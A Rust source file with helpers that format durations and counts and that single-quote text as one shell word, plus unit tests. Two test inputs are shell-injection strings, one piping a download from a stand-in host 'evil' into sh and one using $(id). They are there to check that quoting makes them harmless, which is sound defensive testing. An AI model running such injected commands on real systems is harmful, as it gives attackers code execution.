//! How are durations and counts said in a sentence? One way for findings and for every view.

/// A duration in words: `0.8 s`, `43 s`, `2 min 13 s`, `3 h 12 min`, `41 d 3 h`.
pub fn duration(seconds: f64) -> String {
    if !seconds.is_finite() || seconds < 0.0 {
        return "?".to_owned();
    }
    let s = seconds.round() as u64;
    match s {
        0 if seconds < 0.001 => "0 s".to_owned(),
        0 if seconds < 0.1 => format!("{} ms", (seconds * 1000.0) as u64),
        _ if seconds < 9.95 => format!("{seconds:.1} s"),
        0..=99 => format!("{s} s"),
        100..=5999 => two(s / 60, "min", s % 60, "s"),
        6000..=172_799 => two(s / 3600, "h", s % 3600 / 60, "min"),
        _ => two(s / 86_400, "d", s % 86_400 / 3600, "h"),
    }
}

fn two(large: u64, unit: &str, small: u64, its: &str) -> String {
    if small == 0 {
        format!("{large} {unit}")
    } else {
        format!("{large} {unit} {small} {its}")
    }
}

/// `1 worker`, `2 workers`.
pub fn count(n: usize, noun: &str) -> String {
    if n == 1 {
        format!("1 {noun}")
    } else {
        format!("{n} {noun}s")
    }
}

/// A text of the target's as one word of a shell's command line, which is pasted by somebody who may be root.
pub fn shell_word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn durations_are_said_as_people_say_them() {
        for (seconds, want) in [
            (0.0, "0 s"),
            (0.012, "12 ms"),
            (0.84, "0.8 s"),
            (9.94, "9.9 s"),
            (9.96, "10 s"),
            (43.2, "43 s"),
            (99.4, "99 s"),
            (99.6, "1 min 40 s"),
            (120.0, "2 min"),
            (133.0, "2 min 13 s"),
            (11_520.0, "3 h 12 min"),
            (3_553_200.0, "41 d 3 h"),
            (10_000_000.0, "115 d 17 h"),
            (f64::NAN, "?"),
            (-1.0, "?"),
        ] {
            assert_eq!(duration(seconds), want);
        }
        assert_eq!(count(1, "worker"), "1 worker");
        assert_eq!(count(0, "worker"), "0 workers");
    }

    #[test]
    fn what_a_target_names_stays_one_word() {
        for (text, want) in [
            ("/run/api.sock", "/run/api.sock"),
            ("", "''"),
            ("/tmp/x;curl evil|sh", "'/tmp/x;curl evil|sh'"),
            ("/tmp/it's $(id)", r"'/tmp/it'\''s $(id)'"),
        ] {
            assert_eq!(shell_word(text), want);
        }
    }
}
